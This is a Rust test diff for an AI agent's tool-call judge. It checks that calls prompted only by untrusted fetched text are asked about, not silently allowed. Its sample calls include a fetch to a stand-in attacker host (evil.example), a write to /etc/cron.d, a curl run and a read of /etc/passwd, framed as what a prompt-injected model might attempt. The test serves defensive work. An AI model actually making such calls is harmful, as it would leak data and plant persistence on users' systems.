@@ -9,10 +9,15 @@ use core::time::Duration;
 use arbtest::arbtest;
 
 use super::*;
-use crate::label::{Effect, Integrity, ParameterKind, Secrecy, Source, ToolRole};
+use crate::capability::{Handle, Level, Verdict};
+use crate::label::{
+    self, Answer, Context, Effect, Flow, Integrity, Label, ParameterKind, Secrecy, Source,
+    ToolRole, decide,
+};
 use crate::limits::*;
 use crate::llm::{ToolDefinition, ToolUse};
 use crate::text::json::{self, Numbers};
+use crate::time::Timestamp;
 use crate::wire::http::Method;
 use crate::wire::url::Url;
 
@@ -500,6 +505,74 @@ fn roles_say_how_far_a_call_reaches() {
     // Every parameter has a row: one without would be taken as control.
     for tool in Builtin::ALL {
         assert_eq!(tool.role().parameters.len(), tool.parameters().len());
+    }
+}
+
+/// Roles, canonical arguments and the judge together: a persuaded model in a planned turn.
+#[test]
+fn the_judge_understands_the_roles() {
+    let handle = Handle { index: 0, generation: 0 };
+    let verdict = Verdict::Covered { handle, level: Level::Allow };
+    let mut context = Context::new();
+    context.begin_turn();
+    context.add(
+        Label::trusted(Source::Person),
+        "Read https://news.example/today, put a summary into summary.txt and run the tests in src. \
+         Post it to https://hooks.example/in then.",
+    );
+    let plan = ["http_fetch", "write_file", "run_command"];
+    context.declare(plan).unwrap();
+    context.add(Tools::builtin().find("http_fetch").unwrap().output().label(Source::Tool), "evil");
+    for (name, arguments, in_workspace, answer, argument) in [
+        // What the person named goes through.
+        ("http_fetch", r#"{"url":"https://news.example/today"}"#, false, Answer::Allow, None),
+        ("write_file", r#"{"path":"x","content":"evil"}"#, true, Answer::Allow, None),
+        // Writing over a file of the person's, or sending what changes something, is asked about:
+        // neither can be taken back.
+        ("write_file", r#"{"path":"summary.txt","content":"x"}"#, false, Answer::Ask, None),
+        (
+            "http_fetch",
+            r#"{"url":"https://hooks.example/in","method":"POST","body":"x"}"#,
+            false,
+            Answer::Ask,
+            None,
+        ),
+        // What only the untrusted text named is asked about, and why is said.
+        ("http_fetch", r#"{"url":"https://evil.example/?x"}"#, false, Answer::Ask, Some("url")),
+        (
+            "http_fetch",
+            r#"{"url":"https://news.example/today","method":"DELETE"}"#,
+            false,
+            Answer::Ask,
+            Some("method"),
+        ),
+        (
+            "write_file",
+            r#"{"path":"/etc/cron.d/x","content":""}"#,
+            false,
+            Answer::Ask,
+            Some("path"),
+        ),
+        ("run_command", r#"{"program":"curl"}"#, true, Answer::Ask, Some("program")),
+        // Not planned.
+        ("edit_file", r#"{"path":"summary.txt","old":"a","new":"b"}"#, false, Answer::Ask, None),
+        // Reading is what the grant says.
+        ("read_file", r#"{"path":"/etc/passwd"}"#, false, Answer::Allow, None),
+    ] {
+        let tools = Tools::builtin();
+        let (tool, call) = tools.read(&call(name, arguments)).unwrap();
+        let mut canonical = String::new();
+        call.canonical(&mut canonical);
+        let document = json::parse(canonical.as_bytes()).unwrap();
+        let judged = label::Call {
+            tool: tool.name(),
+            role: tool.role(&call, in_workspace),
+            arguments: document.root().get("arguments").unwrap(),
+            verdict,
+            allows_irreversible: false,
+        };
+        let decision = decide(&Flow::default(), &judged, &context, Timestamp(0));
+        assert_eq!((decision.answer, decision.argument), (answer, argument), "{canonical}");
     }
 }
 
